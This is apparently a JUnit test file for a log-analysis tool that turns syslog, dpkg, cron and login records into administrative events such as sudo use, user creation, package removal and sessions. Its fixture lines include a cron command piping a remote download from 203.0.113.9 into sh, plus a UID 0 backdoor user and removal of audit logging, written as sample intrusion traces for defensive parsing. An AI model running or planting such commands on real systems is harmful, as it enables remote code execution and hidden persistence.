package dev.ward.collect.logs;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.Test;

class AdminMessagesTest {
    static List<String> brief(String... lines) {
        SyslogParser p = new SyslogParser(ZoneOffset.UTC, Instant.parse("2026-12-31T00:00:00Z"));
        List<String> out = new ArrayList<>();
        for (String line : lines) {
            p.parseAny(line).map(l -> AdminMessages.event(l, "/f", 1)).filter(Objects::nonNull)
                    .ifPresent(e -> out.add(e.kind().label() + " [" + e.actor() + "] [" + e.target() + "] [" + e.detail() + "]"));
        }
        return out;
    }

    @Test
    void eachProgramsLines() {
        assertEquals(List.of(
                "sudo [vagrant] [root] [/bin/cat /var/log/secure]",
                "sudo_denied [tsg] [root] [/bin/ls]",
                "su [alice] [root] []",
                "su [root] [root] []",
                "user_added [] [eve] [UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0]",
                "group_added [] [eve] [GID=1001]",
                "added_to_group [] [eve] [sudo]",
                "added_to_group [root] [eve] [docker]",
                "password_changed [] [eve] []"),
                brief("Feb 23 00:08:48 localhost sudo: vagrant : TTY=pts/1 ; PWD=/home/vagrant ; USER=root ; COMMAND=/bin/cat /var/log/secure",
                        "Feb 24 00:13:02 precise32 sudo:      tsg : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/vagrant ; USER=root ; COMMAND=/bin/ls",
                        "Nov 20 04:00:00 web1 su[3537]: (to root) alice on pts/0",
                        "Mar 27 16:16:42 ip-10-77-20-248 su[3537]: Successful su for root by root",
                        "Nov 20 04:00:00 web1 useradd[6995]: new user: name=eve, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0",
                        "Nov 20 04:00:00 web1 groupadd[7000]: new group: name=eve, GID=1001",
                        "Nov 20 04:00:00 web1 usermod[7001]: add 'eve' to group 'sudo'",
                        "Nov 20 04:00:00 web1 gpasswd[7002]: user eve added by root to group docker",
                        "Nov 20 04:00:00 web1 passwd[7003]: pam_unix(passwd:chauthtok): password changed for eve",
                        "Nov 20 04:00:00 web1 sudo: pam_unix(sudo:session): session opened for user root by alice(uid=1000)"));
    }

    @Test
    void packagesCronAndSessions() {
        assertEquals(List.of(
                "package_installed [] [nmap] [7.93+dfsg1-1]",
                "package_upgraded [] [sudo] [1.9.13p3-1 -> 1.9.13p3-1+deb12u1]",
                "package_removed [] [auditd] [remove 1:3.0.9-1]",
                "package_removed [] [rsyslog] [purge 8.2302.0-1]",
                "cron_command [root] [root] [cd / && run-parts --report /etc/cron.hourly]",
                "cron_command [www-data] [www-data] [curl -s http://203.0.113.9/x | sh]",
                "session_opened [] [bob] [12]",
                "shutdown [] [] [rebooting]"),
                brief("2026-11-20 10:00:00 install nmap:amd64 <none> 7.93+dfsg1-1",
                        "2026-11-20 10:00:00 status installed nmap:amd64 7.93+dfsg1-1",
                        "2026-11-20 10:00:01 upgrade sudo:amd64 1.9.13p3-1 1.9.13p3-1+deb12u1",
                        "2026-11-20 10:00:02 remove auditd:amd64 1:3.0.9-1 <none>",
                        "2026-11-20 10:00:03 purge rsyslog:amd64 8.2302.0-1 <none>",
                        "Nov 20 04:17:01 web1 CRON[4100]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
                        "Nov 20 04:17:01 web1 CROND[4101]: (www-data) CMD (curl -s http://203.0.113.9/x | sh)",
                        "Nov 20 04:17:01 web1 CRON[4100]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
                        "Nov 20 04:18:00 web1 systemd-logind[412]: New session 12 of user bob.",
                        "Nov 20 04:19:00 web1 systemd-logind[412]: Removed session 12.",
                        "Nov 20 04:20:00 web1 systemd-logind[412]: System is rebooting."));
    }

    /** Plaso's cron log and Elastic's auth.log: each CMD line a run, each "New session" a session. */
    @Test
    void cronRunsAndSessionsOfRealLogs() throws Exception {
        Path cron = Path.of("../../shared/datasets/logs/plaso/syslog/syslog_cron.log");
        Path auth = Path.of("../../shared/datasets/logs/elastic-examples/auth.log");
        assumeTrue(Files.isRegularFile(cron) && Files.isRegularFile(auth), "no ../shared/datasets/logs: skipped");
        LoginLedger ledger = new LoginLedger(LoginLedger.MAX_RETRY, LoginLedger.FIND_TIME);
        for (Path file : List.of(cron, auth)) {
            SyslogParser p = new SyslogParser(ZoneOffset.UTC, Instant.parse("2026-12-31T00:00:00Z"));
            LogMessages messages = new LogMessages();
            for (String line : Files.readAllLines(file)) {
                p.parseAny(line).ifPresent(l -> messages.events(l, file.toString(), 1, ledger::add));
            }
        }
        var root = ledger.cronCommands().get("root");
        assertEquals(5, root.get("touch /tmp/afile.txt").runs());
        assertEquals(2, root.get("touch /var/run/crond.somecheck").runs());
        assertEquals(Instant.parse("2026-01-22T07:54:01Z"), root.get("touch /var/run/crond.somecheck").last());
        assertEquals(1, root.get("sleep $(( 1 * 60 )); touch /tmp/afile.txt").runs());
        assertEquals(1, root.get("/sbin/status.mycheck").runs());
        long sessions = Files.readAllLines(auth).stream().filter(l -> l.contains("systemd-logind") && l.contains("New session"))
                .count();
        assertEquals(sessions, ledger.sessionsByUser().values().stream().mapToLong(Long::longValue).sum());
        assertTrue(sessions > 100);
    }

    @Test
    void shellsOpenedThroughSudo() {
        assertTrue(LoginLedger.opensShell("/bin/bash"));
        assertTrue(LoginLedger.opensShell("/usr/bin/su -"));
        assertTrue(LoginLedger.opensShell("/bin/sh -c id"));
        assertFalse(LoginLedger.opensShell("/usr/bin/apt-get install nginx"));
        assertFalse(LoginLedger.opensShell("/usr/bin/bashful"));
    }

    /** Elastic's real auth.log: its sudo, su and useradd lines, each once. */
    @Test
    void elasticAuthLog() throws Exception {
        Path log = Path.of("../../shared/datasets/logs/elastic-examples/auth.log");
        assumeTrue(Files.isRegularFile(log), "no ../shared/datasets/logs: skipped");
        List<String> lines = Files.readAllLines(log);
        List<String> events = brief(lines.toArray(String[]::new));
        long sudoLines = lines.stream().filter(l -> l.contains(" sudo: ") && l.contains("COMMAND=")).count();
        long useradd = lines.stream().filter(l -> l.contains("useradd[") && l.contains("new user: ")).count();
        assertEquals(sudoLines, events.stream().filter(e -> e.startsWith("sudo")).count());
        assertEquals(useradd, events.stream().filter(e -> e.startsWith("user_added")).count());
        assertTrue(useradd > 0 && sudoLines > 100, sudoLines + " sudo lines, " + useradd + " useradd lines");
    }
}
